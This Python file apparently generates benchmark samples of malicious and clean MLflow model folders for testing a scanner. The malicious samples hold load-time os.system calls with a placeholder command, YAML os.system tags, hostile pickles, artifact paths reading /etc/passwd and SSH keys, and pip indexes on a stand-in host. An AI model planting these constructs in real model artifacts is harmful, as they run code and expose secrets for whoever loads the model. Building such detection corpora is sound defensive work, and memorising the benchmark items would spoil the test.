"""MLflow folders: loader chains, environments and artifacts."""

from __future__ import annotations

import random
from collections.abc import Iterator

from bench.corpus.families.packages import EVIL
from bench.corpus.unit import COMMAND, HOST, Family, Unit
from bench.corpus.writers import opcodes as op

MLFLOW = Family("mlflow", "mlflow.pyfunc.load_model")


def mlmodel(flavour: str, **flavours: str) -> str:
    more = "".join(f"  {name}:\n{body}" for name, body in flavours.items())
    return f"artifact_path: model\nflavors:\n  python_function:\n{flavour}{more}mlflow_version: 2.14.1\nmodel_uuid: 0f1e2d3c4b5a69788796a5b4c3d2e1f0\nrun_id: 1234\nutc_time_created: '2024-06-01 10:00:00'\n"


CONDA = "channels:\n- conda-forge\ndependencies:\n- python=3.11\n- pip\n- pip:\n  - mlflow==2.14.1\n  - scikit-learn==1.5.0\nname: mlflow-env\n"


USUAL = "    env:\n      conda: conda.yaml\n      virtualenv: python_env.yaml\n    loader_module: mlflow.sklearn\n    model_path: model.pkl\n    predict_fn: predict\n    python_version: 3.11.9\n"


ENV = "python: 3.11.9\nbuild_dependencies:\n- pip==24.0\ndependencies:\n- -r requirements.txt\n"


def folder(model: str, **more: object) -> dict[str, object]:
    files: dict[str, object] = {
        "MLmodel": model,
        "conda.yaml": CONDA,
        "python_env.yaml": ENV,
        "requirements.txt": "mlflow==2.14.1\nscikit-learn==1.5.0\n",
        "model.pkl": op.pickle4(op.value({"coef": [0.1]})),
    }
    return files | {
        name.replace("__", "/").replace("_dot_", "."): value for name, value in more.items()
    }


def units(rng: random.Random) -> Iterator[Unit]:
    del rng

    def bad(technique: str, variant: str, files: dict[str, object]) -> Unit:
        return MLFLOW.bad(technique, variant, files, payload="runs when the model is loaded")

    own = "    loader_module: loader\n    code: code\n    data: data\n    env: conda.yaml\n"
    hostile = f"import os\nos.system('{COMMAND}')\n\ndef _load_pyfunc(path):\n    return None\n"
    yield bad("loader-module", "code-folder", folder(mlmodel(own), code__loader_dot_py=hostile))
    lazy = "def _load_pyfunc(path):\n    import subprocess\n    subprocess.run(['touch', 'corpus-marker'])\n"
    yield bad("loader-module", "in-function", folder(mlmodel(own), code__loader_dot_py=lazy))
    chain = "from helpers import load as _load_pyfunc\n"
    files = folder(mlmodel(own), code__loader_dot_py=chain)
    files |= {
        "code/helpers/__init__.py": "from .inner import load\n",
        "code/helpers/inner.py": "import os\nos.popen('true')\n\ndef load(path):\n    return path\n",
    }
    yield bad("loader-module", "import-chain", files)
    yield bad("loader-module", "os", folder(mlmodel("    loader_module: os\n    data: data\n")))
    yield bad("pickle", "sklearn", {**folder(mlmodel(USUAL)), "model.pkl": EVIL})
    python = "    cloudpickle_version: 3.0.0\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n    env: conda.yaml\n"
    yield bad("pickle", "python-model", folder(mlmodel(python), python_model_dot_pkl=EVIL))
    outside = (
        python
        + "    artifacts:\n      data:\n        path: ../../../../etc/passwd\n        uri: /etc/passwd\n"
    )
    yield bad(
        "artifact-traversal",
        "parent",
        folder(mlmodel(outside), python_model_dot_pkl=op.pickle4(op.EMPTY_DICT)),
    )
    yield bad(
        "model-path", "parent", folder(mlmodel(USUAL.replace("model.pkl", "../../../tmp/evil.pkl")))
    )
    absolute = (
        python
        + "    artifacts:\n      keys:\n        path: /root/.ssh/id_rsa\n        uri: /root/.ssh/id_rsa\n"
    )
    yield bad(
        "artifact-traversal",
        "absolute",
        folder(mlmodel(absolute), python_model_dot_pkl=op.pickle4(op.EMPTY_DICT)),
    )
    yield bad(
        "model-path", "absolute", folder(mlmodel(USUAL.replace("model.pkl", "/tmp/evil.pkl")))
    )
    tagged = CONDA + f"prefix: !!python/object/apply:os.system ['{COMMAND}']\n"
    yield bad("yaml-tag", "conda", folder(mlmodel(USUAL)) | {"conda.yaml": tagged})
    quiet = "import mlflow\n\n\nclass M(mlflow.pyfunc.PythonModel):\n    def load_context(self, context):\n        __import__('os').popen('true')\n\n\nmlflow.models.set_model(M())\n"
    source = "    model_code_path: model.py\n    loader_module: mlflow.pyfunc.model\n"
    yield bad("model-code", "load-context", folder(mlmodel(source), model_dot_py=quiet))
    conda = CONDA.replace("- pip:\n", f"- pip:\n  - --index-url http://{HOST}/simple\n")
    yield bad("environment", "conda-index", {**folder(mlmodel(USUAL)), "conda.yaml": conda})
    conda = CONDA.replace("scikit-learn==1.5.0", f"http://{HOST}/sklearn-1.5.0-py3-none-any.whl")
    yield bad("environment", "conda-url", {**folder(mlmodel(USUAL)), "conda.yaml": conda})
    yield bad(
        "yaml-tag",
        "mlmodel",
        folder(mlmodel(USUAL) + f"metadata: !!python/object/apply:os.system ['{COMMAND}']\n"),
    )
    source = "    model_code_path: model.py\n    loader_module: mlflow.pyfunc.model\n"
    yield bad(
        "model-code",
        "script",
        folder(
            mlmodel(source),
            model_dot_py=hostile + "from mlflow.models import set_model\nset_model(None)\n",
        ),
    )
    yield MLFLOW.good(
        "model",
        "sklearn",
        folder(
            mlmodel(
                USUAL,
                sklearn="    code: null\n    pickled_model: model.pkl\n    serialization_format: cloudpickle\n    sklearn_version: 1.5.0\n",
            )
        ),
    )
    clean = "import pickle\nfrom pathlib import Path\n\ndef _load_pyfunc(path):\n    import xgboost\n    model = xgboost.Booster()\n    model.load_model(str(Path(path) / 'model.ubj'))\n    return model\n"
    yield MLFLOW.good("model", "own-loader", folder(mlmodel(own), code__loader_dot_py=clean))
    yield MLFLOW.good(
        "model",
        "xgboost",
        folder(mlmodel("    loader_module: mlflow.xgboost\n    data: model.xgb\n")),
    )
    example = {
        "input_example_dot_json": '{"columns": ["a"], "data": [[1.0]]}',
        "serving_input_example_dot_json": '{"dataframe_split": {"columns": ["a"], "data": [[1.0]]}}',
    }
    yield MLFLOW.good(
        "model",
        "example",
        folder(
            mlmodel(USUAL) + 'signature:\n  inputs: \'[{"type": "double", "name": "a"}]\'\n',
            **example,
        ),
    )
    yield MLFLOW.good(
        "model",
        "artifacts",
        folder(
            mlmodel(
                python
                + "    artifacts:\n      data:\n        path: artifacts/vocab.txt\n        uri: /home/me/vocab.txt\n"
            ),
            artifacts__vocab_dot_txt="a\n",
            python_model_dot_pkl=op.pickle4(op.value({"a": 1})),
        ),
    )
    code = "import mlflow\nfrom mlflow.models import set_model\n\n\nclass M(mlflow.pyfunc.PythonModel):\n    def predict(self, context, model_input):\n        return model_input\n\n\nset_model(M())\n"
    yield MLFLOW.good("model", "model-code", folder(mlmodel(source), model_dot_py=code))
